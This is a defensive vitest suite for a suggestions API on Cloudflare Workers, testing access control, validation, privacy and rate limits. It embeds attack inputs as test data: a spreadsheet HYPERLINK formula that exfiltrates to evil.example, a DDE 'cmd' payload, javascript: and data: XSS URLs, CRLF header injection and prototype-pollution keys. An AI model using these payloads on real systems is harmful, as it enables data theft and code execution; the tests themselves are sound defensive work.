import { env } from 'cloudflare:workers';
import { DrizzleQueryError } from 'drizzle-orm';
import type { Context } from 'hono';
import { describe, expect, it, vi } from 'vitest';
import { handleError } from '../../worker/http/errors.ts';
import worker from '../../worker/index.ts';
import { SuggestionReceiptSchema, SuggestionStatusSchema } from '../../worker/schemas/suggestions.ts';
import { parseCsv } from '../csv-reader.ts';
import { ADMIN_TOKENS, fullAnswers, getParsed, KNOWN_TOWN, newKey, request, submit, withinOneRateWindow } from '../helpers.ts';
import { ADDITION, admin, CORRECTION, count, send, suggest } from '../suggestion-helpers.ts';

/**
 * A hostile pass over the public suggestions (issue 14): what an outsider and a
 * staff member of the wrong role can do with them, each answered by a test.
 */
const OTHER_TOWN = 'beijing-xiaotangshanzhen';
const importCsv = (csv: string) =>
  request('POST', '/api/v1/admin/imports?dry_run=true', {
    headers: { Authorization: ADMIN_TOKENS.editor, 'Content-Type': 'text/csv' },
    body: csv,
  });

const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;
/** Cells a spreadsheet would evaluate (OWASP "CSV injection"), as test/api/csv-injection.test.ts finds them. */
const formulaCells = (csv: string) =>
  parseCsv(csv)
    .slice(1)
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !NUMBER.test(cell));

describe('the import row an acceptance prefills', () => {
  it('never hands staff a spreadsheet formula, and the import still reads the text as the sender wrote it', async () => {
    const name = '=HYPERLINK("http://evil.example/?d="&A1,"尼山镇")';
    const detail = "-2+3+cmd|' /C calc'!A0 未收录";
    const receipt = await send({ ...ADDITION, town_name: name, detail });
    const res = await admin('editor', 'POST', `/api/v1/admin/suggestions/${receipt}/accept`);
    expect(res.status).toBe(200);
    const { csv } = await res.json<{ csv: string }>();
    expect(formulaCells(csv)).toEqual([]);
    // Sent to the import as it is, the row names the town and the note the sender gave, not a `'`-prefixed copy.
    const report = await (await importCsv(csv)).json<{ problems: { code: string; column: string | null; detail: string }[] }>();
    const unknown = report.problems.find((p) => p.code === 'unknown-town');
    expect(unknown?.detail).toContain(`No town "${name}"`);
    expect(report.problems.filter((p) => p.column === 'note')).toEqual([]);
  });
});

describe('crediting the public through the import', () => {
  const row = (town: string, list: string, suggestion: string) =>
    `town,list,status,effective_date,document,suggestion\n${town},${list},retained,2020-06-30,建村〔2016〕221号,${suggestion}\n`;

  it('credits an accepted suggestion only on the list and town it was about', async () => {
    const receipt = await send({ ...CORRECTION, proposed_status: 'retained', proposed_date: '2020-06-30', source: '建村〔2016〕221号' });
    expect((await admin('editor', 'POST', `/api/v1/admin/suggestions/${receipt}/accept`)).status).toBe(200);
    const problems = async (csv: string) =>
      (await (await importCsv(csv)).json<{ problems: { code: string; column: string | null }[] }>()).problems.filter(
        (p) => p.column === 'suggestion',
      );
    // Its own row: nothing to say about the credit.
    expect(await problems(row(KNOWN_TOWN, 'mohurd-2016-batch1', receipt))).toEqual([]);
    // Another list, or another town: the public did not suggest that event.
    expect(await problems(row(KNOWN_TOWN, 'mohurd-2017-batch2', receipt))).not.toEqual([]);
    expect(await problems(row(OTHER_TOWN, 'mohurd-2016-batch1', receipt))).not.toEqual([]);
  });
});

describe('suggestions the data moved away from', () => {
  it('accepts one whose town and list are gone since (a reload of the data) with a dry run saying so, never a 500', async () => {
    const receipt = await send(CORRECTION);
    await env.DB.prepare("UPDATE suggestions SET town_id = 'vanished-zhen', list_id = 'vanished-list' WHERE id = ?").bind(receipt).run();
    const res = await admin('editor', 'POST', `/api/v1/admin/suggestions/${receipt}/accept`);
    expect(res.status).toBe(200);
    const { report } = await res.json<{ report: { valid: boolean; problems: { code: string }[] } }>();
    expect(report.valid).toBe(false);
    expect(report.problems.map((p) => p.code)).toEqual(expect.arrayContaining(['unknown-town', 'unknown-list']));
  });

  it('never credits the public with a decoy, whose receipt its bot holds', async () => {
    const decoy = SuggestionReceiptSchema.parse(await (await suggest({ ...CORRECTION, website: 'http://spam.example' })).json()).receipt;
    await env.DB.prepare("UPDATE suggestions SET status = 'accepted' WHERE id = ?").bind(decoy).run();
    const { problems } = await (
      await importCsv(
        `town,list,status,effective_date,document,suggestion\n${KNOWN_TOWN},mohurd-2016-batch1,retained,2020-06-30,建村〔2016〕221号,${decoy}\n`,
      )
    ).json<{ problems: { code: string }[] }>();
    expect(problems.map((p) => p.code)).toContain('unknown-suggestion');
    expect((await admin('editor', 'POST', `/api/v1/admin/suggestions/${decoy}/accept`)).status).toBe(404);
  });
});

describe('two editors at once', () => {
  it.each([
    ['decline and decline', 'decline', 'decline'],
    ['decline and accept', 'decline', 'accept'],
    ['accept and decline', 'accept', 'decline'],
  ] as const)('%s: one decision wins, the other is a 409, and one audit entry is written', async (_, first, second) => {
    const receipt = await send({ ...CORRECTION, contact: { email: 'race@example.com' }, contact_consent: true });
    const decide = (action: 'accept' | 'decline') =>
      admin('editor', 'POST', `/api/v1/admin/suggestions/${receipt}/${action}`, action === 'decline' ? { reason: '重复' } : undefined);
    const statuses = (await Promise.all([decide(first), decide(second)])).map((r) => r.status).sort();
    expect(statuses).toEqual([200, 409]);
    expect(
      await count(
        "SELECT COUNT(*) AS n FROM audit_log WHERE entity = 'suggestion' AND entity_id = ? AND action IN ('accept', 'decline')",
        receipt,
      ),
    ).toBe(1);
    expect(await count('SELECT COUNT(*) AS n FROM suggestions WHERE id = ? AND contact IS NULL', receipt)).toBe(1);
  });
});

describe('staff routes under other spellings', () => {
  it.each([
    ['/api/v1/admin/suggestions/', 'GET'],
    ['/api/v1/admin//suggestions', 'GET'],
    ['/api/v1//admin/suggestions', 'GET'],
    ['/api/v1/admin/%73uggestions', 'GET'],
    ['/api/v1/%61dmin/suggestions', 'GET'],
    ['/api/v1/admin/suggestions?limit=1', 'GET'],
  ])('%s needs the editor role like its plain spelling', async (path, method) => {
    const attempts: Record<string, string>[] = [
      {},
      { Authorization: 'Bearer ' },
      { Authorization: 'Basic dGVzdDp0ZXN0' },
      { Authorization: `${ADMIN_TOKENS.editor} x` },
      { Authorization: 'bearer  test-auditor-token' },
    ];
    for (const headers of attempts) {
      expect((await request(method, path, { headers })).status, `${path} ${JSON.stringify(headers)}`).toBeGreaterThanOrEqual(400);
    }
    for (const role of ['auditor', 'surveys'] as const) {
      const res = await admin(role, method, path);
      expect([400, 403, 404], `${path} ${role}`).toContain(res.status);
    }
  });

  it('an auditor cannot decide a suggestion by an odd spelling of the decision path', async () => {
    const receipt = await send(CORRECTION);
    for (const path of [
      `/api/v1/admin/suggestions/${receipt}/accept/`,
      `/api/v1/admin//suggestions/${receipt}/accept`,
      `/api/v1/admin/suggestions/${receipt}/%61ccept`,
    ]) {
      expect([400, 403, 404]).toContain((await admin('auditor', 'POST', path)).status);
    }
    expect((await getParsed(SuggestionStatusSchema, `/api/v1/suggestions/${receipt}`)).body.status).toBe('received');
  });
});

describe('odd bodies and requests to the public endpoint', () => {
  const stored = () => count('SELECT COUNT(*) AS n FROM suggestions');

  it.each([
    ['a prototype key at the top', `{"__proto__": {"decoy": true}, ${JSON.stringify(ADDITION).slice(1)}`],
    [
      'a prototype key in the contact',
      JSON.stringify({ ...ADDITION, contact_consent: true }).replace('{', '{"contact": {"__proto__": {"email": "x@example.com"}}, '),
    ],
    ['a constructor key', JSON.stringify({ ...ADDITION, constructor: { prototype: { decoy: true } } })],
    ['contact consent as a string', JSON.stringify({ ...ADDITION, contact: { email: 'a@example.com' }, contact_consent: 'true' })],
    ['an array', JSON.stringify([ADDITION])],
    ['null', 'null'],
  ])('refuses %s with 400 problem+json and stores nothing', async (_, body) => {
    const before = await stored();
    const res = await suggest(body);
    expect(res.status, await res.clone().text()).toBe(400);
    expect(res.headers.get('Content-Type')).toContain('application/problem+json');
    expect(await stored()).toBe(before);
  });

  it('reads duplicate keys as JSON.parse does (the last wins) and checks the value that is kept', async () => {
    const res = await suggest(`{"source": "建村〔2017〕178号", ${JSON.stringify({ ...ADDITION, source: 'javascript:alert(1)' }).slice(1)}`);
    expect(res.status).toBe(400);
  });

  // (A `+json` type such as application/merge-patch+json is JSON, RFC 6839, and read as such.)
  it.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml'])(
    'refuses a body sent as %s, never storing it',
    async (type) => {
      const before = await stored();
      const res = await suggest(ADDITION, { headers: { 'Content-Type': type } });
      expect(res.status).toBeGreaterThanOrEqual(400);
      expect(res.status).toBeLessThan(500);
      expect(res.headers.get('Content-Type')).toContain('application/problem+json');
      expect(await stored()).toBe(before);
    },
  );

  it('refuses a streamed body over 64 KB without a Content-Length (413)', async () => {
    const chunk = new TextEncoder().encode('x'.repeat(16 * 1024));
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        for (let i = 0; i < 6; i++) controller.enqueue(chunk);
        controller.close();
      },
    });
    // Called in-process (not through the test's network pipe, which the limit's early answer would abort).
    const res = await worker.fetch(
      new Request('https://example.test/api/v1/suggestions', {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', 'Idempotency-Key': newKey() },
        body,
      }),
      env,
    );
    expect(res.status).toBe(413);
    expect(res.headers.get('Content-Type')).toContain('application/problem+json');
  });

  it('never echoes contact details in a refusal', async () => {
    const email = `${'long'.repeat(60)}@example.com`;
    for (const body of [
      { ...ADDITION, contact: { email }, contact_consent: true },
      { ...ADDITION, contact: { email, address: 'secret street 1' }, contact_consent: true },
      { ...ADDITION, contact: { email: 'hidden@example.com' } },
      { ...ADDITION, list_id: 'no-such-list', contact: { phone: '13800138000' }, contact_consent: true },
    ]) {
      const res = await suggest(body);
      expect(res.status).toBe(400);
      const text = await res.text();
      for (const secret of [email, 'secret street 1', 'hidden@example.com', '13800138000']) expect(text).not.toContain(secret);
    }
  });

  it.each([
    ['PUT', '/api/v1/suggestions'],
    ['DELETE', '/api/v1/suggestions'],
    ['GET', '/api/v1/suggestions'],
    ['POST', '/api/v1/suggestions/s-00000000-0000-4000-8000-000000000000'],
    ['DELETE', '/api/v1/suggestions/s-00000000-0000-4000-8000-000000000000'],
  ])('answers %s %s with a problem, never a 500', async (method, path) => {
    const res = await request(method, path, { headers: { 'Content-Type': 'application/json' }, body: method === 'GET' ? undefined : '{}' });
    expect([404, 405]).toContain(res.status);
    expect(res.headers.get('Content-Type')).toContain('application/problem+json');
    if (res.status === 405) expect(res.headers.get('Allow')).toBeTruthy();
  });

  it.each([
    ['a trailing slash', '/api/v1/suggestions/'],
    ['a double slash', '//api/v1/suggestions'],
    ['a receipt of 5000 characters', `/api/v1/suggestions/s-${'0'.repeat(5000)}`],
    ['an encoded space after the receipt', '/api/v1/suggestions/s-00000000-0000-4000-8000-000000000000%20'],
    ['a right-to-left override', '/api/v1/suggestions/%E2%80%AEs-x'],
  ])('answers a GET with %s with a problem, never a 500', async (_, path) => {
    const res = await request('GET', path);
    expect(res.status).toBeGreaterThanOrEqual(400);
    expect(res.status).toBeLessThan(500);
  });

  it('HEAD of a receipt says as much as GET, without a body, and keeps it private', async () => {
    const receipt = await send(ADDITION);
    const res = await request('HEAD', `/api/v1/suggestions/${receipt}`);
    expect(res.status).toBe(200);
    expect(await res.text()).toBe('');
    expect(res.headers.get('Cache-Control')).toContain('private');
  });

  it('answers a CORS preflight for the POST without granting credentials', async () => {
    const res = await request('OPTIONS', '/api/v1/suggestions', {
      headers: {
        Origin: 'https://evil.example',
        'Access-Control-Request-Method': 'POST',
        'Access-Control-Request-Headers': 'content-type,idempotency-key',
      },
    });
    expect(res.status).toBeLessThan(500);
    expect(res.headers.get('Access-Control-Allow-Credentials')).not.toBe('true');
  });
});

describe('contact details once a suggestion is decided', () => {
  it.each(['decline', 'accept'] as const)(
    'leave nothing behind after a %s: the row is as if none had been sent, and a retry still gets its receipt',
    async (action) => {
      const key = newKey();
      const body = { ...CORRECTION, detail: `联系方式测试 ${key}`, contact: { phone: '13800138000', name: '王五' }, contact_consent: true };
      const receipt = SuggestionReceiptSchema.parse(await (await suggest(body, { key })).json()).receipt;
      const without = await send({ ...CORRECTION, detail: body.detail });
      for (const id of [receipt, without]) {
        const res = await admin(
          'editor',
          'POST',
          `/api/v1/admin/suggestions/${id}/${action}`,
          action === 'decline' ? { reason: '测试' } : undefined,
        );
        expect(res.status).toBe(200);
      }
      const row = (id: string) =>
        env.DB.prepare('SELECT contact, fingerprint FROM suggestions WHERE id = ?')
          .bind(id)
          .first<{ contact: string | null; fingerprint: string }>();
      // Not even a hash of the phone number (eleven digits are quickly tried) is kept.
      expect(await row(receipt)).toEqual(await row(without));
      const again = await suggest(body, { key });
      expect(again.status).toBe(201);
      expect(again.headers.get('Idempotent-Replayed')).toBe('true');
      expect((await suggest({ ...body, detail: '另一条' }, { key })).status).toBe(422);
    },
  );

  it('a decoy keeps nothing derived from the contact either', async () => {
    const body = { ...ADDITION, detail: `诱饵 ${newKey()}`, website: 'http://spam.example' };
    const a = SuggestionReceiptSchema.parse(
      await (await suggest({ ...body, contact: { email: 'bot@example.com' }, contact_consent: true })).json(),
    ).receipt;
    const b = SuggestionReceiptSchema.parse(await (await suggest(body)).json()).receipt;
    const fingerprint = (id: string) =>
      env.DB.prepare('SELECT fingerprint FROM suggestions WHERE id = ?').bind(id).first<string>('fingerprint');
    expect(await fingerprint(a)).toBe(await fingerprint(b));
  });
});

describe('a flood of suggestions about one town', () => {
  it('drops invisible characters from the names, so that a copy with zero-width spaces is the same town', async () => {
    const receipt = await send({
      ...ADDITION,
      town_name: '\u200b尼\u200b山\u200d镇\ufeff',
      province: '山\u2060东省',
      city: '济\u200c宁市',
    });
    const { body } = await getParsed(SuggestionStatusSchema, `/api/v1/suggestions/${receipt}`);
    expect(body.suggested).toMatchObject({ town_name: '尼山镇', province: '山东省', city: '济宁市' });
    // A name of nothing but invisible characters is no name.
    expect((await suggest({ ...ADDITION, town_name: '\u200b\u200d' })).status).toBe(400);
  });

  it('lets staff see every suggestion about one town or list together, however the town was given', async () => {
    const name = `洪流${newKey().slice(0, 6)}镇`;
    const flood = [
      await send({ ...ADDITION, town_name: name }),
      await send({ ...ADDITION, town_name: `${name.slice(0, 2)}\u200b${name.slice(2)}` }),
      await send({ ...ADDITION, town_name: name, list_id: 'mohurd-2016-batch1' }),
    ];
    await send({ ...ADDITION, town_name: '别的镇' });
    const receipts = async (query: string) => {
      const res = await admin('editor', 'GET', `/api/v1/admin/suggestions?limit=500&${query}`);
      expect(res.status, query).toBe(200);
      const page = await res.json<{ items: { receipt: string }[]; total: number }>();
      expect(page.total).toBe(page.items.length);
      return page.items.map((i) => i.receipt).sort();
    };
    expect(await receipts(`town=${encodeURIComponent(name)}`)).toEqual([...flood].sort());
    expect(await receipts(`town=${encodeURIComponent(name)}&list=mohurd-2017-batch2`)).toEqual(flood.slice(0, 2).sort());
    // A known town is found by its id too.
    const byId = await send(CORRECTION);
    expect(await receipts(`town=${KNOWN_TOWN}&status=received`)).toContain(byId);
    expect((await admin('editor', 'GET', `/api/v1/admin/suggestions?town=${'x'.repeat(500)}`)).status).toBe(400);
  });
});

describe('the rate limit under other spellings of one network', () => {
  it('spends one budget for every spelling of an IPv6 /64 and of an IPv4-mapped address', { timeout: 90_000 }, async () => {
    await withinOneRateWindow();
    const spellings = ['2001:db8:99:1::1', '2001:0DB8:0099:0001:0000:0000:0000:0001', '2001:db8:99:1:ffff::9', '2001:db8:99:1::1%eth0'];
    const statuses: number[] = [];
    for (let i = 0; i < 10; i++) statuses.push((await suggest(ADDITION, { ip: spellings[i % spellings.length] })).status);
    expect(statuses).toEqual(Array(10).fill(201));
    for (const ip of spellings) expect((await suggest(ADDITION, { ip })).status, ip).toBe(429);
    // IPv4 and its IPv4-mapped IPv6 spelling are one client too.
    for (let i = 0; i < 10; i++) expect((await suggest(ADDITION, { ip: i % 2 ? '192.0.2.77' : '::ffff:192.0.2.77' })).status).toBe(201);
    expect((await suggest(ADDITION, { ip: '::FFFF:c000:024d' })).status).toBe(429);
  });
});

describe('what the sender wrote', () => {
  it('stays on the status page only: the prefilled import row does not make it the public note of an event', async () => {
    // The form promises that what is suggested is shown only to whoever holds the receipt; a sender may write anything there.
    const detail = `2019年复核保留，我的电话13900001111 ${newKey()}`;
    const receipt = await send({
      ...CORRECTION,
      detail,
      proposed_status: 'retained',
      proposed_date: '2020-06-30',
      source: '建村〔2016〕221号',
    });
    const { csv } = await (await admin('editor', 'POST', `/api/v1/admin/suggestions/${receipt}/accept`)).json<{ csv: string }>();
    expect(csv).not.toContain('13900001111');
    const [header, row] = parseCsv(csv);
    expect(row![header!.indexOf('note')]).toBe('');
    expect(row![header!.indexOf('suggestion')]).toBe(receipt);
  });
});

describe('an Idempotency-Key of another endpoint', () => {
  it('is a key of its own for a suggestion: neither replays nor refuses the other', async () => {
    const key = newKey();
    const answers = await fullAnswers('public');
    expect((await submit('public', { town_id: KNOWN_TOWN, answers, consent: { participation: true } }, { key })).status).toBe(201);
    const res = await suggest(CORRECTION, { key });
    expect(res.status).toBe(201);
    expect(res.headers.get('Idempotent-Replayed')).toBeNull();
    expect(SuggestionReceiptSchema.parse(await res.json()).receipt).toMatch(/^s-/);
    const again = await submit('public', { town_id: KNOWN_TOWN, answers, consent: { participation: true } }, { key });
    expect(again.headers.get('Idempotent-Replayed')).toBe('true');
  });
});

describe('the logs', () => {
  // drizzle puts a failed query's parameters in its error's message: an insert's would be the contact details.
  const failedInsert = (cause: string) =>
    new DrizzleQueryError(
      'insert into "suggestions" ("id", "contact") values (?, ?)',
      ['s-1', '{"email":"logged@example.com","phone":"13700001111"}'],
      new Error(cause),
    );
  const context = { req: { url: 'https://example.test/api/v1/suggestions' } } as unknown as Context;

  it.each([
    ['an unexpected database error', 'D1_ERROR: no such table: suggestions'],
    ['a busy database', 'D1_ERROR: storage operation exceeded timeout'],
  ])('never get the parameters of a failed query (%s): the query and the cause only', async (_, cause) => {
    const lines: string[] = [];
    const record = (...args: unknown[]) =>
      void lines.push(
        args
          .map((a) => (a instanceof Error ? `${a.stack} ${a.message} ${JSON.stringify(a)}` : typeof a === 'string' ? a : JSON.stringify(a)))
          .join(' '),
      );
    const spies = [
      vi.spyOn(console, 'error').mockImplementation(record),
      vi.spyOn(console, 'warn').mockImplementation(record),
      vi.spyOn(console, 'log').mockImplementation(record),
    ];
    try {
      const res = handleError(failedInsert(cause), context);
      expect(res.status).toBeGreaterThanOrEqual(500);
      expect(await res.text()).not.toContain('logged@example.com');
    } finally {
      for (const spy of spies) spy.mockRestore();
    }
    expect(lines.join('\n')).toContain(cause.replace('D1_ERROR: ', ''));
    expect(lines.join('\n')).not.toMatch(/logged@example\.com|13700001111/);
  });
});

describe('the receipt, once its suggestion is imported', () => {
  it('stays private: the change feed, the history, the Atom feed and the status-events CSV say only that the public suggested it', async () => {
    const receipt = await send({ ...CORRECTION, proposed_status: 'warned', proposed_date: '2022-05-31', source: '建村〔2016〕221号' });
    const { csv } = await (await admin('editor', 'POST', `/api/v1/admin/suggestions/${receipt}/accept`)).json<{ csv: string }>();
    const since = (await env.DB.prepare('SELECT MAX(seq) AS n FROM change_log').first<number>('n')) ?? 0;
    const imported = await request('POST', '/api/v1/admin/imports', {
      headers: { Authorization: ADMIN_TOKENS.editor, 'Content-Type': 'text/csv' },
      body: csv,
    });
    expect(imported.status, await imported.clone().text()).toBe(201);
    const changes = await (await request('GET', `/api/v1/changes?since=${since}`)).text();
    expect(changes).toContain('"suggested_by_public":true');
    for (const path of [
      `/api/v1/changes?since=${since}`,
      `/api/v1/towns/${KNOWN_TOWN}/history`,
      '/feeds/changes.atom',
      '/api/v1/status-events?format=csv',
    ]) {
      const res = await request('GET', path);
      expect(res.status, path).toBeLessThan(400);
      expect(await res.text(), path).not.toContain(receipt);
    }
  });
});

describe('a decoy, as the bot that sent it sees it', () => {
  it('looks like any received suggestion: the same answer, receipt form, status document and page', async () => {
    const body = { ...CORRECTION, detail: `诱饵对照 ${newKey()}` };
    const [real, decoy] = await Promise.all([suggest(body), suggest({ ...body, website: 'http://spam.example' })]);
    expect([real.status, decoy.status]).toEqual([201, 201]);
    expect(decoy.headers.get('Location')?.replace(/s-[0-9a-f-]{36}/, 'R')).toBe(
      real.headers.get('Location')?.replace(/s-[0-9a-f-]{36}/, 'R'),
    );
    const receipts = await Promise.all([real, decoy].map(async (r) => SuggestionReceiptSchema.parse(await r.json()).receipt));
    for (const r of receipts) expect(r).toMatch(/^s-[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    const [a, b] = await Promise.all(receipts.map(async (r) => (await getParsed(SuggestionStatusSchema, `/api/v1/suggestions/${r}`)).body));
    const { receipt: _a, submitted_at: _sa, ...realRest } = a!;
    const { receipt: _b, submitted_at: _sb, ...decoyRest } = b!;
    expect(decoyRest).toEqual(realRest);
    const pages = await Promise.all(
      receipts.map(async (r) =>
        (await (await request('GET', `/suggestions/${r}?lang=zh`)).text())
          .replace(/s-[0-9a-f-]{36}/g, 'R')
          .replace(/\d{4}-\d\d-\d\d \d\d:\d\d/g, 'T'),
      ),
    );
    expect(pages[1]).toBe(pages[0]);
  });
});

describe('the source a sender gives', () => {
  it('shows a look-alike host as what it is (punycode), and keeps the URL one line', async () => {
    const receipt = await send({ ...CORRECTION, source: 'https://www.ɡov.cn/notice.html' });
    expect((await getParsed(SuggestionStatusSchema, `/api/v1/suggestions/${receipt}`)).body.suggested.source).toMatch(
      /^https:\/\/www\.xn--/,
    );
  });

  it.each([
    ['credentials', 'http://user:pass@www.example.gov.cn/a'],
    ['an official-looking user part', 'https://www.mohurd.gov.cn@evil.example/a'],
    ['a data: URL', 'data:text/html,<script>alert(1)</script>'],
    ['a javascript: URL with a scheme in capitals', 'JAVASCRIPT:alert(1)//http://x.cn'],
    ['a line break', 'https://www.example.gov.cn/a\nSet-Cookie: x=1'],
    ['a tab', 'https://www.example.gov.cn/a\tb'],
    ['an IP-less bare host', 'https://intranet/notice'],
    // 450 characters as typed, under the field's 500, but 4,000 once percent-encoded as stored.
    ['a URL that grows past 2,000 characters once encoded', `https://www.example.gov.cn/${'镇'.repeat(440)}`],
  ])('refuses a source with %s (400 naming the field)', async (_, source) => {
    const res = await suggest({ ...CORRECTION, source });
    expect(res.status).toBe(400);
    expect((await res.json<{ errors: { name: string }[] }>()).errors.map((e) => e.name)).toContain('source');
  });
});
